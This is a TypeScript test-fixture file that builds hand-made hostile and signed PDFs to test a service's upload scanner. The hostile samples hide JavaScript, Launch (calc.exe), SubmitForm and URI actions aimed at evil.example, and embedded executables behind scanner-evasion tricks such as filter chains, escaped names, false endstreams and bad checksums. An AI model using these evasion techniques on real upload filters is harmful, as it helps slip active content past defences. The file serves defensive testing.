import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/**
 * Encoders for the PDF stream filters, written from the specification independently of the decoders under test
 * (pdf.js reads what they make: pdf-content.test.ts checks it), PDFs that hide scripts, actions, files and forms
 * behind them, as an attacker builds them by hand, and digitally signed PDFs, whose signature lives in a form.
 */

export const asciiHexEncode = (data: Buffer): Buffer => Buffer.from(`${data.toString('hex').replace(/(.{64})/g, '$1\n')}>`, 'latin1');

export function ascii85Encode(data: Buffer): Buffer {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = data.subarray(i, i + 4);
    const padded = Buffer.concat([chunk, Buffer.alloc(4 - chunk.length)]);
    let value = padded.readUInt32BE(0);
    if (value === 0 && chunk.length === 4) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let k = 0; k < 5; k += 1) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, chunk.length + 1).join('');
  }
  return Buffer.from(`${out}~>`, 'latin1');
}

/** Runs of equal bytes as repeats, the rest as literal runs of at most 128. */
export function runLengthEncode(data: Buffer): Buffer {
  const out: number[] = [];
  let i = 0;
  while (i < data.length) {
    let run = 1;
    while (i + run < data.length && data[i + run] === data[i] && run < 128) run += 1;
    if (run >= 2) {
      out.push(257 - run, data[i] ?? 0);
      i += run;
      continue;
    }
    const start = i;
    while (i < data.length && i - start < 128 && !(data[i + 1] === data[i] && i + 1 < data.length)) i += 1;
    if (i === start) i += 1;
    out.push(i - start - 1, ...data.subarray(start, i));
  }
  out.push(128);
  return Buffer.from(out);
}

/** LZW as PDF writes it: 9 to 12 bit codes, a clear code first and when the table is full, EarlyChange 1. */
export function lzwEncode(data: Buffer): Buffer {
  const bytes: number[] = [];
  let buffer = 0;
  let bits = 0;
  let width = 9;
  const write = (code: number) => {
    buffer = (buffer << width) | code;
    bits += width;
    while (bits >= 8) {
      bytes.push((buffer >> (bits - 8)) & 0xff);
      bits -= 8;
    }
    buffer &= (1 << bits) - 1;
  };
  let table = new Map<string, number>();
  let next = 258;
  const reset = () => {
    table = new Map();
    for (let c = 0; c < 256; c += 1) table.set(String.fromCharCode(c), c);
    next = 258;
    width = 9;
  };
  write(256);
  reset();
  let current = '';
  for (const byte of data) {
    const extended = current + String.fromCharCode(byte);
    if (table.has(extended)) {
      current = extended;
      continue;
    }
    write(table.get(current) ?? 0);
    table.set(extended, next);
    next += 1;
    // The decoder widens when its own table reaches the next power of two, one entry behind the encoder's.
    if (next + 1 > 1 << width && width < 12) width += 1;
    if (next >= 4094) {
      write(256);
      reset();
    }
    current = String.fromCharCode(byte);
  }
  if (current) write(table.get(current) ?? 0);
  write(257);
  if (bits > 0) bytes.push((buffer << (8 - bits)) & 0xff);
  return Buffer.from(bytes);
}

/** PNG "Sub" prediction (Predictor 11..15 in DecodeParms) over rows of `columns` bytes, then Flate. */
export function pngSubPredicted(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  for (let at = 0; at < data.length; at += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, at, at + columns);
    const predicted = Buffer.alloc(columns + 1);
    predicted[0] = 1;
    for (let i = 0; i < columns; i += 1) predicted[i + 1] = ((row[i] ?? 0) - (i > 0 ? (row[i - 1] ?? 0) : 0)) & 0xff;
    rows.push(predicted);
  }
  return Buffer.concat(rows);
}

export const ENCODERS = {
  ASCIIHexDecode: asciiHexEncode,
  ASCII85Decode: ascii85Encode,
  LZWDecode: lzwEncode,
  RunLengthDecode: runLengthEncode,
  FlateDecode: (data: Buffer) => deflateSync(data),
} as const;
export type FilterName = keyof typeof ENCODERS;

/** `data` encoded for `/Filter [filters...]`: the last filter listed is applied first, as a reader undoes them in order. */
export function encodeChain(data: Buffer, filters: readonly FilterName[]): Buffer {
  return [...filters].reverse().reduce((current, name) => ENCODERS[name](current), data);
}

/** An object of a hand-built PDF: its dictionary or value, stream data when it is a stream, the objects it packs. */
export type PdfObject = { body: string; stream?: Buffer; packs?: number[] };

/**
 * A PDF from numbered objects (1 is the catalog, 2 the pages, 3 the page). Its cross-reference is a table, a
 * cross-reference stream (PDF 1.5: it also locates the objects packed in object streams, so readers find them), or
 * none (readers rebuild it from the `N 0 obj` headers, as for many files from the wild).
 */
export function buildPdf(objects: Record<number, PdfObject>, options: { xref?: 'table' | 'stream' | 'none' } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = new Map<number, number>();
  const packed = new Map<number, [number, number]>();
  let size = parts[0]?.length ?? 0;
  const push = (part: Buffer) => {
    parts.push(part);
    size += part.length;
  };
  for (const [number, object] of Object.entries(objects).sort(([a], [b]) => Number(a) - Number(b))) {
    offsets.set(Number(number), size);
    for (const [index, inner] of (object.packs ?? []).entries()) packed.set(inner, [Number(number), index]);
    if (object.stream) {
      push(Buffer.from(`${number} 0 obj\n${object.body}\nstream\n`, 'latin1'));
      push(object.stream);
      push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    } else push(Buffer.from(`${number} 0 obj\n${object.body}\nendobj\n`, 'latin1'));
  }
  const xref = options.xref ?? 'table';
  const count = Math.max(...offsets.keys(), ...packed.keys()) + 1;
  const trailer = (entries: number) => `/Size ${entries} /Root 1 0 R`;
  if (xref === 'none') {
    push(Buffer.from(`trailer\n<< ${trailer(count)} >>\n%%EOF\n`, 'latin1'));
    return Buffer.concat(parts);
  }
  const xrefAt = size;
  if (xref === 'stream') {
    // Object `count` is the cross-reference stream itself; entries of 1 + 4 + 2 bytes.
    offsets.set(count, xrefAt);
    const rows = Array.from({ length: count + 1 }, (_v, n) => {
      const row = Buffer.alloc(7);
      const inside = packed.get(n);
      const offset = offsets.get(n);
      if (inside) {
        row.writeUInt8(2, 0);
        row.writeUInt32BE(inside[0], 1);
        row.writeUInt16BE(inside[1], 5);
      } else if (offset !== undefined) {
        row.writeUInt8(1, 0);
        row.writeUInt32BE(offset, 1);
      } else row.writeUInt16BE(0xffff, 5);
      return row;
    });
    const data = Buffer.concat(rows);
    push(Buffer.from(`${count} 0 obj\n<< /Type /XRef ${trailer(count + 1)} /W [1 4 2] /Length ${data.length} >>\nstream\n`, 'latin1'));
    push(data);
    push(Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
    return Buffer.concat(parts);
  }
  let table = `xref\n0 ${count}\n0000000000 65535 f \n`;
  for (let n = 1; n < count; n += 1) {
    const offset = offsets.get(n);
    table += offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
  }
  push(Buffer.from(`${table}trailer\n<< ${trailer(count)} >>\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A stream object: `dict` entries besides /Length, the data as given. */
export const streamObject = (dict: string, data: Buffer): PdfObject => ({ body: `<< ${dict} /Length ${data.length} >>`, stream: data });

/** The objects of an object stream: their numbers and bodies packed as PDF 1.5 writes them, then encoded. */
export function objectStream(objects: Record<number, string>, filters: readonly FilterName[], extra = ''): PdfObject {
  let header = '';
  let body = '';
  for (const [number, text] of Object.entries(objects)) {
    header += `${number} ${body.length} `;
    body += `${text}\n`;
  }
  const packed = Buffer.from(`${header}\n${body}`, 'latin1');
  const first = header.length + 1;
  const filter = filters.length === 0 ? '' : `/Filter [${filters.map((name) => `/${name}`).join(' ')}]`;
  const stream = streamObject(
    `/Type /ObjStm /N ${Object.keys(objects).length} /First ${first} ${filter} ${extra}`,
    encodeChain(packed, filters),
  );
  return { ...stream, packs: Object.keys(objects).map(Number) };
}

/** The plain pages every hostile PDF below has, so that readers open it. */
const PAGES: Record<number, PdfObject> = {
  2: { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
  3: { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>' },
};

/** A one-page PDF whose catalog has `catalog` added and which carries `objects`, with a cross-reference stream. */
export const pdfWith = (catalog: string, objects: Record<number, PdfObject> = {}) =>
  buildPdf({ 1: { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` }, ...PAGES, ...objects }, { xref: 'stream' });

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Pages past the 50 whose actions pdf.js reads on upload: only the raw scan finds what they carry. */
const LONG_DOCUMENT_PAGES = 51;

/**
 * A 51-page PDF whose last page runs a script when it is opened (the page's /AA /O), the script kept in object 5
 * inside an object stream (object 4) encoded with `filters`.
 */
export function scriptInObjectStream(filters: readonly FilterName[], script = SCRIPT): Buffer {
  const pages = Array.from({ length: LONG_DOCUMENT_PAGES }, (_v, i) => 100 + i);
  const objects: Record<number, PdfObject> = {
    1: { body: '<< /Type /Catalog /Pages 2 0 R >>' },
    2: { body: `<< /Type /Pages /Kids [${pages.map((n) => `${n} 0 R`).join(' ')}] /Count ${pages.length} >>` },
    4: objectStream({ 5: script }, filters),
  };
  for (const n of pages) {
    const opens = n === pages.at(-1) ? '/AA << /O 5 0 R >>' : '';
    objects[n] = { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${opens} >>` };
  }
  return buildPdf(objects, { xref: 'stream' });
}

/** Each hostile PDF: a label, and the file. All are refused at every upload that takes PDFs. */
export function hostilePdfs(): Array<{ label: string; pdf: Buffer }> {
  const hex = encodeChain(Buffer.from(`5 0 ${SCRIPT}\n`, 'latin1'), ['ASCIIHexDecode']);
  return [
    { label: 'a script in an ASCIIHex object stream', pdf: scriptInObjectStream(['ASCIIHexDecode']) },
    { label: 'a script in an ASCII85 object stream', pdf: scriptInObjectStream(['ASCII85Decode']) },
    { label: 'a script in an LZW object stream', pdf: scriptInObjectStream(['LZWDecode']) },
    { label: 'a script in a RunLength object stream', pdf: scriptInObjectStream(['RunLengthDecode']) },
    { label: 'a script in a Flate object stream', pdf: scriptInObjectStream(['FlateDecode']) },
    {
      label: 'a script behind a chain of three filters',
      pdf: scriptInObjectStream(['ASCII85Decode', 'LZWDecode', 'FlateDecode']),
    },
    {
      label: 'a script behind abbreviated and #-escaped filter names',
      pdf: pdfWith('/OpenAction 5 0 R', {
        4: streamObject(
          '/Type /ObjStm /N 1 /First 4 /Filter [/AHx /Fl#61teDecode]',
          encodeChain(Buffer.from(`5 0 ${SCRIPT}`), ['ASCIIHexDecode', 'FlateDecode']),
        ),
      }),
    },
    {
      label: 'a script with #-escaped names ended by NUL',
      pdf: scriptInObjectStream(['ASCIIHexDecode'], '<< /S /J#61vaScript\u0000/J#53\u0000(app.alert\\(1\\)) >>'),
    },
    {
      label: 'a script behind Flate with a PNG predictor',
      pdf: (() => {
        const packed = Buffer.from(`5 0 ${SCRIPT}      `, 'latin1');
        const data = deflateSync(pngSubPredicted(packed, 8));
        return pdfWith('/OpenAction 5 0 R', {
          4: streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 8 >>', data),
        });
      })(),
    },
    {
      label: 'a script behind Flate with a wrong checksum',
      pdf: (() => {
        const data = deflateSync(Buffer.from(`5 0 ${SCRIPT}`, 'latin1'));
        data.writeUInt32BE((data.readUInt32BE(data.length - 4) ^ 0xffffffff) >>> 0, data.length - 4);
        return pdfWith('/OpenAction 5 0 R', { 4: streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data) });
      })(),
    },
    {
      label: 'a script whose ASCIIHex stream holds a false endstream, its length by reference',
      pdf: pdfWith('/OpenAction 5 0 R', {
        4: {
          body: '<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 6 0 R >>',
          stream: Buffer.concat([Buffer.from('endstream\n', 'latin1'), hex]),
        },
        6: { body: String(hex.length + 10) },
      }),
    },
    {
      label: 'a script whose filter is named by reference to an object in another object stream',
      pdf: pdfWith('/OpenAction 5 0 R', {
        4: streamObject('/Type /ObjStm /N 1 /First 4 /Filter 8 0 R', hex),
        7: objectStream({ 8: '/ASCIIHexDecode' }, ['FlateDecode']),
      }),
    },
    { label: 'a Launch action', pdf: pdfWith('/OpenAction << /S /Launch /F (calc.exe) >>') },
    {
      label: 'a SubmitForm action in an ASCIIHex object stream',
      pdf: scriptInObjectStream(['ASCIIHexDecode'], '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'),
    },
    {
      label: 'an ImportData action in an ASCII85 object stream',
      pdf: scriptInObjectStream(['ASCII85Decode'], '<< /S /ImportData /F (data.fdf) >>'),
    },
    {
      label: 'an embedded file',
      pdf: pdfWith('/Names 9 0 R', {
        9: { body: '<< /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>] >> >>' },
        10: streamObject('/Type /EmbeddedFile', Buffer.from('MZ not really')),
      }),
    },
    {
      label: 'an embedded file whose names sit in an LZW object stream',
      pdf: pdfWith('/Names 9 0 R', {
        4: objectStream({ 9: '<< /Emb#65ddedFiles << /Names [(a.exe) 11 0 R] >> >>', 11: '<< /Type /Filespec /F (a.exe) >>' }, [
          'LZWDecode',
        ]),
      }),
    },
    {
      label: 'a file attachment annotation in a RunLength object stream',
      pdf: buildPdf(
        {
          1: { body: '<< /Type /Catalog /Pages 2 0 R >>' },
          2: { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
          3: { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [12 0 R] >>' },
          4: objectStream({ 12: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>' }, ['RunLengthDecode']),
        },
        { xref: 'stream' },
      ),
    },
    {
      label: 'an interactive form with a text field, its catalog and field kept in an ASCIIHex object stream',
      pdf: buildPdf(
        {
          ...PAGES,
          4: objectStream(
            {
              1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [13 0 R] >> >>',
              13: '<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R >>',
            },
            ['ASCIIHexDecode'],
          ),
        },
        { xref: 'stream' },
      ),
    },
    {
      label: 'an XFA form',
      pdf: pdfWith('/A#63roForm << /Fields [] /X#46A 14 0 R >>', { 14: streamObject('', Buffer.from('<xdp:xdp/>')) }),
    },
    ...formsBeyondSignatures().map(({ label, pdf }) => ({ label, pdf })),
  ];
}

/** Signed PDFs a signing tool could write: each passes at every upload that takes PDFs. */
export function signedPdfs(): Array<{ label: string; pdf: Buffer }> {
  return [
    { label: 'one signature field that is its own widget', pdf: signedPdf() },
    { label: 'a signature field whose widget is its kid', pdf: signedPdf({ kids: true }) },
    { label: 'the signature field in an ASCIIHex object stream', pdf: signedPdf({ packed: ['ASCIIHexDecode'] }) },
    { label: 'the signature field and its kid in a Flate object stream', pdf: signedPdf({ packed: ['FlateDecode'], kids: true }) },
    { label: 'the signature field in an object stream stored without a filter', pdf: signedPdf({ packed: [] }) },
  ];
}

/** An XFA form's data: the form a reader that knows XFA shows instead of the AcroForm's fields. */
const XFA = { 14: streamObject('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')) };
const URI_ACTION = '<< /S /URI /URI (https://evil.example/) >>';

/**
 * Forms shaped like a signature form that are more than one, each refused. `parser` says whether pdf.js's view of
 * the file shows it too (a field of another type, XFA); actions other than scripts on a signature field, the
 * appearances a reader is asked to rebuild and a form name where the scan cannot read it are for the raw scan alone.
 */
export function formsBeyondSignatures(): Array<{ label: string; pdf: Buffer; parser: boolean }> {
  const textWidget = '<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [20 70 180 90] /P 3 0 R >>';
  return [
    { label: 'a text field (/Tx) where the signature field would be', pdf: signedPdf({ fieldType: 'Tx' }), parser: true },
    {
      label: 'a text field (/Tx) in a Flate object stream',
      pdf: signedPdf({ fieldType: 'Tx', packed: ['FlateDecode'] }),
      parser: true,
    },
    {
      label: 'a signature field and a text field',
      pdf: signedPdf({ fields: '11 0 R', objects: { 11: { body: textWidget } }, annots: '11 0 R' }),
      parser: true,
    },
    {
      label: 'a signature field with a check box (/Btn) among its kids',
      pdf: signedPdf({ kids: true, kid: '/FT /Btn' }),
      parser: true,
    },
    {
      label: 'a text-field widget on the page that the signature form does not list',
      pdf: signedPdf({ objects: { 11: { body: textWidget } }, annots: '11 0 R' }),
      parser: true,
    },
    {
      label: 'a widget annotation of no field type',
      pdf: signedPdf({ objects: { 11: { body: '<< /Type /Annot /Subtype /Widget /Rect [20 70 180 90] /P 3 0 R >>' } }, annots: '11 0 R' }),
      parser: true,
    },
    { label: 'a signature form with an XFA form', pdf: signedPdf({ acroForm: '/XFA 14 0 R', objects: XFA }), parser: true },
    { label: 'a signature field with an /AA action', pdf: signedPdf({ field: `/AA << /Fo ${URI_ACTION} >>` }), parser: false },
    {
      label: 'a signature field with an /AA action in a Flate object stream',
      pdf: signedPdf({ field: `/AA << /Fo ${URI_ACTION} >>`, packed: ['FlateDecode'] }),
      parser: false,
    },
    {
      label: 'a signature widget with an /A action in an ASCIIHex object stream',
      pdf: signedPdf({ kids: true, kid: `/A ${URI_ACTION}`, packed: ['ASCIIHexDecode'] }),
      parser: false,
    },
    {
      label: 'a signature form asking the reader to rebuild appearances (/NeedAppearances)',
      pdf: signedPdf({ acroForm: '/NeedAppearances true' }),
      parser: false,
    },
    {
      label: 'a text-field form in a catalog the scan cannot read whole (a stray number pdf.js skips)',
      pdf: buildPdf(
        {
          ...PAGES,
          1: { body: '<< 7 /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [13 0 R] >> >>' },
          13: { body: '<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R >>' },
        },
        { xref: 'table' },
      ),
      parser: true,
    },
  ];
}

/** Digits of a signature's /ByteRange, written before the offsets are known and filled in after (same width). */
const BYTE_RANGE_PLACEHOLDER = '[0 0000000000 0000000000 0000000000]';

type SignedPdfOptions = {
  /** The catalog and the field's dictionaries in an object stream with these filters (none: stored as they are). */
  packed?: readonly FilterName[];
  /** The field a parent of a separate widget (its kid) instead of one dictionary for both. */
  kids?: boolean;
  /** The field's type, /Sig unless given. */
  fieldType?: string;
  /** Entries added to the field, its widget kid and the AcroForm. */
  field?: string;
  kid?: string;
  acroForm?: string;
  /** Objects added to the file, and references added to the form's fields and to the page's annotations. */
  objects?: Record<number, PdfObject>;
  fields?: string;
  annots?: string;
  /** Plain pages before the signed one (the signature on the last page). */
  pagesBefore?: number;
};

/**
 * A digitally signed PDF as signing tools write it: an AcroForm holding one signature field (/FT /Sig, /SigFlags 3)
 * whose widget sits on the page, its value a signature dictionary (/Adobe.PPKLite, /adbe.pkcs7.detached) with a
 * /ByteRange around its /Contents. The signature is a placeholder of the right shape (the upload check reads the
 * form, it does not verify signers), random so that each file is a new one. The options make the refused variants.
 */
export function signedPdf(options: SignedPdfOptions = {}): Buffer {
  const type = options.fieldType ?? 'Sig';
  const content = Buffer.from('BT /F1 12 Tf 20 150 Td (Signed offering document) Tj ET', 'latin1');
  const appearance = Buffer.from('q 0 0 1 rg 0 0 160 40 re f Q', 'latin1');
  const widget = '/Type /Annot /Subtype /Widget /F 4 /Rect [20 20 180 60] /P 3 0 R /AP << /N 9 0 R >>';
  const value = `/T (Signature1) /V 7 0 R ${options.field ?? ''}`;
  const catalog = `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R ${options.fields ?? ''}] /SigFlags 3 /DA (/Helv 0 Tf 0 g) ${options.acroForm ?? ''} >> >>`;
  const fields: Record<number, string> = options.kids
    ? { 6: `<< /FT /${type} ${value} /Kids [8 0 R] >>`, 8: `<< ${widget} /Parent 6 0 R ${options.kid ?? ''} >>` }
    : { 6: `<< ${widget} /FT /${type} ${value} >>` };
  const contents = `3082${randomHex(2046)}`;
  const before = Array.from({ length: options.pagesBefore ?? 0 }, (_v, i) => 100 + i);
  const objects: Record<number, PdfObject> = {
    2: { body: `<< /Type /Pages /Kids [${[...before, 3].map((n) => `${n} 0 R`).join(' ')}] /Count ${before.length + 1} >>` },
    ...Object.fromEntries(before.map((n) => [n, { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>' }])),
    3: {
      body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [${options.kids ? 8 : 6} 0 R ${options.annots ?? ''}] >>`,
    },
    4: { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    5: streamObject('', content),
    7: {
      body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange ${BYTE_RANGE_PLACEHOLDER} /Contents <${contents}> /M (D:20250301120000+07'00') /Name (Issuer Co., Ltd.) /Reason (Offering document) >>`,
    },
    9: streamObject('/Type /XObject /Subtype /Form /BBox [0 0 160 40]', appearance),
    ...options.objects,
  };
  if (options.packed) objects[10] = objectStream({ 1: catalog, ...fields }, options.packed);
  else Object.assign(objects, { 1: { body: catalog } }, Object.fromEntries(Object.entries(fields).map(([n, body]) => [n, { body }])));
  const pdf = buildPdf(objects, { xref: options.packed ? 'stream' : 'table' });
  // The signed ranges: everything but the hex string of /Contents, as a signer computes them.
  const text = pdf.toString('latin1');
  const from = text.indexOf(`/Contents <${contents}>`) + '/Contents '.length;
  const to = from + contents.length + 2;
  const range = `[0 ${from} ${to} ${pdf.length - to}]`.padEnd(BYTE_RANGE_PLACEHOLDER.length, ' ');
  return Buffer.from(text.replace(BYTE_RANGE_PLACEHOLDER, range), 'latin1');
}

const randomHex = (length: number): string =>
  randomBytes(Math.ceil(length / 2))
    .toString('hex')
    .slice(0, length);
